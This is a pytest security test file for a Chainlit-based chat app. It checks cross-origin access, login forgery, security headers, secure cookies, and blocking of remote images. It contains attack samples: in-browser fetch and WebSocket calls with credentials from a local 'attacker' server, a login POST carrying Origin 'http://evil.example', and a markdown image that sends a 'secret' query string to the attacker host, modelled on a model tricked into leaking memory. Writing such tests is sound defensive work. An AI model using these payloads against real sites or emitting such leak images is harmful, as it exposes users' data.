"""The page as an attacker and an operator try it: other origins, login forgery, headers, cookies.

Each test here failed against the page before ``memchat/web_guard.py``: Chainlit answered
any origin with credentials, its socket checked no ``Origin``, and it sent no security headers.
"""

from __future__ import annotations

import threading
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from test_web import PASSWORDS, Web, browser, open_chat, page, send, stored_items, wait_for_text, web  # noqa: F401


class Attacker:
    """Another page on the same host, another port: a different origin but the same site, so cookies go along."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib name
                pass

            def do_GET(self) -> None:
                seen.append(self.path)
                body = b"<!doctype html><title>elsewhere</title><p>nothing to see</p>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    running = Attacker()
    yield running
    running.server.shutdown()
    running.server.server_close()


def post_login(web: Web, user: str, password: str, **headers: str) -> tuple[int, dict[str, str]]:
    data = urllib.parse.urlencode({"username": user, "password": password}).encode()
    request = urllib.request.Request(f"{web.url}/login", data=data, headers=headers, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, {name.lower(): value for name, value in answer.headers.items()}
    except urllib.error.HTTPError as exc:
        return exc.code, {name.lower(): value for name, value in exc.headers.items()}


def test_another_origin_cannot_read_or_write_a_logged_in_users_memory(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    open_chat(page, web, "alice")
    before = stored_items(web.db, "alice")
    page.goto(attacker.url)  # the same browser, alice's cookies in it
    outcome = page.evaluate(
        """async (target) => {
            const read = await fetch(target + "/user", {credentials: "include"})
                .then((answer) => "read " + answer.status, () => "blocked");
            const polled = await fetch(target + "/ws/socket.io/?EIO=4&transport=polling", {credentials: "include"})
                .then((answer) => "read " + answer.status, () => "blocked");
            const socket = await new Promise((done) => {
                const ws = new WebSocket(target.replace("http", "ws") + "/ws/socket.io/?EIO=4&transport=websocket");
                ws.onopen = () => done("open");
                ws.onerror = () => done("refused");
                setTimeout(() => done("no answer"), 10000);
            });
            return {read, polled, socket};
        }""",
        web.url,
    )
    assert outcome == {"read": "blocked", "polled": "blocked", "socket": "refused"}
    assert stored_items(web.db, "alice") == before


def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:  # noqa: F811
    # Login forgery: the victim would then chat into the attacker's memory.
    status, _ = post_login(web, "alice", PASSWORDS["alice"], Origin="http://evil.example")
    assert status == 403
    status, headers = post_login(web, "alice", PASSWORDS["alice"], Origin=web.url)
    assert status == 200 and "access_token" in headers.get("set-cookie", "")
    status, _ = post_login(web, "alice", PASSWORDS["alice"])  # no Origin: not a browser page, still needs the password
    assert status == 200


def test_every_answer_carries_the_security_headers(web: Web) -> None:  # noqa: F811
    for path in ("/", "/login", "/project/settings?language=en-US"):
        try:
            with urllib.request.urlopen(web.url + path, timeout=20) as answer:
                headers = {name.lower(): value for name, value in answer.headers.items()}
        except urllib.error.HTTPError as exc:  # /login wants a POST: its refusal carries them too
            headers = {name.lower(): value for name, value in exc.headers.items()}
        policy = headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in policy and "frame-ancestors 'none'" in policy, path
        assert "script-src 'self' 'sha256-" in policy  # the page's own inline scripts, by hash, and no others
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_cookies_are_secure_behind_a_proxy_that_says_https(web: Web) -> None:  # noqa: F811
    _, plain = post_login(web, "alice", PASSWORDS["alice"])
    assert "secure" not in plain["set-cookie"].lower()  # plain http on this machine: a Secure cookie would be lost
    _, proxied = post_login(web, "alice", PASSWORDS["alice"], **{"X-Forwarded-Proto": "https"})
    assert "; secure" in proxied["set-cookie"].lower()


def test_an_image_in_a_message_or_reply_loads_nothing_from_another_host(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    open_chat(page, web, "bob")
    # The model repeats it ("You said: ..."), so it is in a reply too, as a model tricked into leaking would write it.
    send(page, f"look ![pixel]({attacker.url}/leak.png?secret=bob-memory)")
    wait_for_text(page, "You said: look")
    page.wait_for_timeout(1000)
    assert not any(path.startswith("/leak.png") for path in attacker.requests)
